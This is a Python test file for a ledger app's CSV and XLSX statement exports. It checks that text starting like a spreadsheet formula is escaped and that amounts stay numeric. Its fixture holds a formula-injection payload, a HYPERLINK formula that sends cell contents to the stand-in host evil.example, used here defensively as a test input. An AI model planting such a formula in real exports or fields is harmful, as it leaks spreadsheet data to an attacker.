"""Text a user typed is written to CSV and XLSX exports as text, never as a live formula; numbers stay
numbers (a negative amount is a numeric cell, not text)."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest
from rest_framework.test import APIClient

from apps.core.accounts.roles import Role
from apps.core.mechanisms.exports import csv_cell, xlsx_cell
from apps.ledger.services import Leg, transaction_post

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"click")'


@pytest.fixture
def statement(books, member_of):
    user = member_of(books.organization, role=Role.OWNER)
    for number, text in enumerate([FORMULA, "+7 (495) 000-00-00", "-1+1", "@SUM(A1:A9)", "\tTab", "\rCR", "Rent"]):
        transaction_post(
            organization=books.organization,
            user=user,
            date=dt.date(2026, 3, 2),
            entries=[Leg(books.cash.pk, Decimal("-10.00")), Leg(books.rent.pk, Decimal("10.00"))],
            idempotency_key=f"k{number}",
            description=text,
        )
    client = APIClient()
    client.force_authenticate(user)
    return lambda fmt: client.get(
        f"/api/v1/ledger/reports/accounts/{books.cash.pk}/statement/",
        {"date_from": "2026-03-01", "date_to": "2026-03-31", "format": fmt},
    )


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_csv_cells_starting_like_a_formula_are_written_as_text(statement):
    response = statement("csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(_body(response).decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA in cells
    assert FORMULA not in cells
    for typed in ("+7 (495) 000-00-00", "-1+1", "@SUM(A1:A9)", "\tTab", "\rCR"):
        assert "'" + typed in cells
    assert "Rent" in cells
    assert "-10.00" in cells  # an amount stays a plain number


def test_xlsx_never_stores_a_formula_and_keeps_amounts_numeric(statement):
    response = statement("xlsx")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(_body(response))).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = [cell.value for cell in cells if cell.data_type == "s"]
    assert FORMULA in texts  # shown as typed, as text
    amounts = [cell.value for cell in cells if cell.data_type == "n"]
    assert Decimal("-10") in [Decimal(str(value)) for value in amounts]


def test_the_one_writer_every_export_uses():
    assert csv_cell("=1+1") == "'=1+1"
    assert csv_cell(Decimal("-5.00")) == "-5.00"
    assert csv_cell(-3) == "-3"
    assert csv_cell("plain") == "plain"
    sheet = openpyxl.Workbook(write_only=True).create_sheet()
    assert xlsx_cell(sheet, "=1+1").data_type == "s"
    assert xlsx_cell(sheet, Decimal("-5")).data_type == "n"
